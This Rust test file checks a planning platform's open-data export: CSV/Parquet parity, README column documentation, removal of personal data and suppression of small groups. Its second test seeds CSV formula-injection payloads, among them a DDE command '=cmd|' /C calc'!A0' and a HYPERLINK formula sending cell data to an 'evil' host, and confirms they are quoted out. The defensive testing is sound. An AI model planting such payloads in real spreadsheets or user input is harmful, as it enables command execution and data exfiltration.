//! The open-data archive: every table as CSV and Parquet, explained in its
//! README, with no personal data and small groups suppressed.

use std::io::Read;

use axum::http::StatusCode;
use pspm_tests::both;
use pspm_tests::plans::with_demo_plans;
use serde_json::json;

both!(
    open_data_has_every_table_as_csv_and_parquet_and_no_personal_data,
    |app| async move {
        with_demo_plans(&app).await;
        let r = pspm_tests::open_data::download(&app.state, &app.client(), &[]).await;
        assert_eq!(r.status, StatusCode::OK);
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(r.body.clone())).expect("a zip");
        let names: Vec<String> = zip
            .file_names()
            .map(|n| n.expect("a file name").to_string())
            .collect();
        for t in [
            "organisations",
            "plans",
            "plan_nodes",
            "indicators",
            "indicator_targets",
            "measurements",
            "attachments",
            "consultations",
            "contributions",
            "responses",
            "practices",
            "practice_texts",
            "practice_adoptions",
            "participation_summary",
            "participation_daily",
            "quality_scores",
        ] {
            for ext in ["csv", "parquet"] {
                assert!(
                    names.contains(&format!("{t}.{ext}")),
                    "{t}.{ext} in {names:?}"
                );
            }
        }
        assert!(
            names
                .iter()
                .any(|n| n.starts_with("plan") && n.contains("_impact_indicators")),
            "{names:?}"
        );
        assert!(
            names.contains(&"README.md".to_owned()) && names.contains(&"LICENSE.txt".to_owned())
        );
        let mut readme = String::new();
        zip.by_name("README.md")
            .unwrap()
            .read_to_string(&mut readme)
            .unwrap();
        // Secrets that must not leave: e-mails and names of people.
        let people: Vec<(String, String)> = {
            use diesel::prelude::*;
            use pspm_backend::db::schema::users;
            app.db
                .run(|c| {
                    Ok(users::table
                        .select((users::email, users::display_name))
                        .load::<(String, String)>(c)?)
                })
                .await
                .unwrap()
        };
        for name in names.iter().filter(|n| n.ends_with(".csv")) {
            let mut text = String::new();
            zip.by_name(name)
                .unwrap()
                .read_to_string(&mut text)
                .unwrap();
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            let header = csv_header(&mut reader);
            for column in &header {
                assert!(
                    readme.contains(&format!("| {column} |")),
                    "{name}: column {column} explained"
                );
            }
            for record in reader.records() {
                assert_eq!(record.unwrap().len(), header.len(), "{name}");
            }
            for (email, display) in &people {
                assert!(!text.contains(email.as_str()), "{name} leaks an e-mail");
                assert!(
                    display.len() < 6 || !text.contains(display.as_str()),
                    "{name} leaks the name {display}"
                );
            }
            for banned in [
                "email",
                "display_name",
                "author_id",
                "user_id",
                "responder_id",
                "recorded_by",
            ] {
                assert!(!header.iter().any(|h| h == banned), "{name} has {banned}");
            }
            // Demographic fields appear only in the suppressed breakdowns.
            if header.iter().any(|h| h == "age_band" || h == "gender") {
                assert!(
                    name.starts_with("participation_by_"),
                    "{name} carries demographic data"
                );
            }
            let stem = name.trim_end_matches(".csv");
            let mut pq = Vec::new();
            zip.by_name(&format!("{stem}.parquet"))
                .unwrap()
                .read_to_end(&mut pq)
                .unwrap();
            use polars::prelude::SerReader;
            let df = polars::prelude::ParquetReader::new(std::io::Cursor::new(pq))
                .finish()
                .expect("parquet parses");
            assert_eq!(
                df.width(),
                header.len(),
                "{stem}: same columns in both formats"
            );
            assert_eq!(
                df.height(),
                csv::Reader::from_reader(text.as_bytes()).records().count(),
                "{stem}: same rows in both formats"
            );
            assert!(
                readme.contains(&format!("## {stem}.csv, {stem}.parquet\n\n"))
                    && readme.contains(&format!(" Rows: {}.\n", df.height())),
                "{stem}: rows counted in the README"
            );
        }
        // Written in parts (here of 2 rows), a table is the same: one header,
        // every row once, in order, in both formats.
        let cache = pspm_backend::cache::Cache::default();
        let parts = app
            .db
            .run(move |c| {
                pspm_backend::services::analytics::open_data::write_zip(
                    c,
                    &cache,
                    std::io::Cursor::new(Vec::new()),
                    2,
                )
            })
            .await
            .expect("the archive in parts")
            .into_inner();
        let mut parts = zip::ZipArchive::new(std::io::Cursor::new(parts)).expect("a zip");
        let read = |z: &mut zip::ZipArchive<std::io::Cursor<Vec<u8>>>, name: &str| {
            let mut bytes = Vec::new();
            z.by_name(name).unwrap().read_to_end(&mut bytes).unwrap();
            bytes
        };
        let whole_csv = read(&mut zip, "contributions.csv");
        let rows = csv::Reader::from_reader(whole_csv.as_slice())
            .records()
            .count();
        assert!(
            rows > 4,
            "the demo has contributions over several parts: {rows}"
        );
        assert_eq!(read(&mut parts, "contributions.csv"), whole_csv);
        use polars::prelude::SerReader;
        let frame = |bytes: Vec<u8>| {
            polars::prelude::ParquetReader::new(std::io::Cursor::new(bytes))
                .finish()
                .expect("parquet parses")
        };
        assert!(
            frame(read(&mut parts, "contributions.parquet"))
                .equals_missing(&frame(read(&mut zip, "contributions.parquet")))
        );
        // Small demographic groups stay suppressed in the export too.
        for table in [
            "participation_by_organisation_kind",
            "participation_by_age_band",
            "participation_by_gender",
            "participation_by_level",
        ] {
            let mut text = String::new();
            zip.by_name(&format!("{table}.csv"))
                .expect(table)
                .read_to_string(&mut text)
                .unwrap();
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            let header = csv_header(&mut reader);
            let at = header
                .iter()
                .position(|h| h == "participants")
                .expect("a participants column");
            for record in reader.records() {
                let record = record.unwrap();
                let n = &record[at];
                assert!(
                    n.is_empty() || n.parse::<i64>().unwrap() >= 5,
                    "{table}: {record:?}"
                );
            }
        }
    }
);

/// The column names of a CSV file.
fn csv_header(reader: &mut csv::Reader<&[u8]>) -> Vec<String> {
    reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect()
}

/// A cell a spreadsheet would run as a formula: its first character.
fn formula_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

both!(
    open_data_csv_cells_never_start_a_formula,
    |app| async move {
        use polars::prelude::SerReader;
        use pspm_tests::consultations::contribute;
        use pspm_tests::plans::{add, new_plan, publish};
        let planner = app.client_as(pspm_backend::domain::Role::Planner).await;
        let plan = new_plan(&planner, "Piano @ rischio").await;
        let area = add(
            &planner,
            plan,
            json!({"kind": "area", "code": "A1", "title": "=1+2", "responsible_office": "@SUM(A1:A9)"}),
        )
        .await["id"]
            .as_i64()
            .unwrap();
        let indicator = planner
            .create(
                &format!("/api/v1/nodes/{area}/indicators"),
                &json!({"name": "-Saldo di bilancio", "unit": "%", "direction": "increase",
                        "baseline_value": -2.5, "baseline_date": "2024-12-31", "frequency": "annual",
                        "data_source": "+ISTAT", "targets": [{"period": "2026", "due_date": "2026-12-31", "value": -0.5}]}),
            )
            .await["indicator"]["id"]
            .as_i64()
            .unwrap();
        planner
            .create(
                &format!("/api/v1/indicators/{indicator}/measurements"),
                &json!({"date": "2025-06-30", "value": -1.5, "note": "=cmd|' /C calc'!A0"}),
            )
            .await;
        publish(&planner, plan).await;
        let consultation = planner
            .create(
                &format!("/api/v1/plans/{plan}/consultations"),
                &json!({"title": "+Consultazione", "description": "Dite la vostra", "opens_at": "2025-01-01T00:00",
                        "closes_at": "2099-12-31T23:59", "audience": "public", "supports_per_person": 2, "points_per_person": 100}),
            )
            .await["consultation"]["id"]
            .as_i64()
            .unwrap();
        let member = app.client_as(pspm_backend::domain::Role::Member).await;
        let hyperlink = r#"=HYPERLINK("https://evil/?"&A1,"x")"#;
        let r = contribute(
            &member,
            consultation,
            json!({"kind": "comment", "body": hyperlink}),
        )
        .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
        let r = contribute(
            &member,
            consultation,
            json!({"kind": "comment", "body": "-1 per cento, non di più"}),
        )
        .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());

        let r = pspm_tests::open_data::download(&app.state, &app.client(), &[]).await;
        assert_eq!(r.status, StatusCode::OK);
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(r.body.clone())).expect("a zip");
        let names: Vec<String> = zip
            .file_names()
            .map(|n| n.expect("a file name").to_string())
            .filter(|n| n.ends_with(".csv"))
            .collect();
        let mut read = |name: &str| {
            let mut bytes = Vec::new();
            zip.by_name(name)
                .unwrap_or_else(|e| panic!("{name}: {e}"))
                .read_to_end(&mut bytes)
                .unwrap();
            bytes
        };
        let mut negatives = 0;
        for name in &names {
            let text = read(name);
            let stem = name.trim_end_matches(".csv");
            // The Parquet twin's types tell text columns from numbers.
            let schema = polars::prelude::ParquetReader::new(std::io::Cursor::new(read(&format!(
                "{stem}.parquet"
            ))))
            .finish()
            .expect("parquet parses")
            .schema()
            .clone();
            let mut reader = csv::Reader::from_reader(text.as_slice());
            let header = csv_header(&mut reader);
            for record in reader.records() {
                let record = record.unwrap();
                for (column, cell) in header.iter().zip(record.iter()) {
                    let dtype = schema.get(column.as_str()).expect("same columns");
                    if dtype.is_primitive_numeric() {
                        let n: f64 = cell.parse().unwrap_or_else(|_| {
                            assert!(cell.is_empty(), "{name}.{column}: {cell:?} is not a number");
                            0.0
                        });
                        negatives += usize::from(n < 0.0);
                    } else {
                        assert!(!formula_start(cell), "{name}.{column}: {cell:?}");
                    }
                }
            }
        }
        assert!(negatives >= 3, "negative numbers stay numbers: {negatives}");
        let contributions = String::from_utf8(read("contributions.csv")).unwrap();
        let bodies: Vec<String> = {
            let mut reader = csv::Reader::from_reader(contributions.as_bytes());
            let header = csv_header(&mut reader);
            let at = header
                .iter()
                .position(|h| h == "body")
                .expect("a body column");
            reader
                .records()
                .map(|r| r.unwrap()[at].to_owned())
                .collect()
        };
        assert!(
            bodies.contains(&format!("'{hyperlink}")),
            "the formula is quoted: {bodies:?}"
        );
        assert!(
            bodies.contains(&"'-1 per cento, non di più".to_owned()),
            "{bodies:?}"
        );
        // Parquet keeps the text as written: its readers do not run formulas.
        let parquet = polars::prelude::ParquetReader::new(std::io::Cursor::new(read(
            "contributions.parquet",
        )))
        .finish()
        .unwrap();
        let column = parquet.column("body").unwrap().str().unwrap().clone();
        assert!(column.iter().any(|b| b == Some(hyperlink)));
        let readme = String::from_utf8(read("README.md")).unwrap();
        assert!(
            readme.contains("single quote"),
            "the README says how cells are neutralised: {readme}"
        );

        // The plan's tree as CSV, through the API.
        let tree = app
            .client()
            .get(&format!("/api/v1/plans/{plan}/tree.csv"))
            .await
            .text();
        let mut reader = csv::Reader::from_reader(tree.as_bytes());
        let header = csv_header(&mut reader);
        let row = reader.records().next().expect("the area").unwrap();
        let cell = |c: &str| row[header.iter().position(|h| h == c).unwrap()].to_owned();
        assert_eq!(cell("title"), "'=1+2");
        assert_eq!(cell("responsible_office"), "'@SUM(A1:A9)");
        assert_eq!(cell("code"), "A1");
    }
);
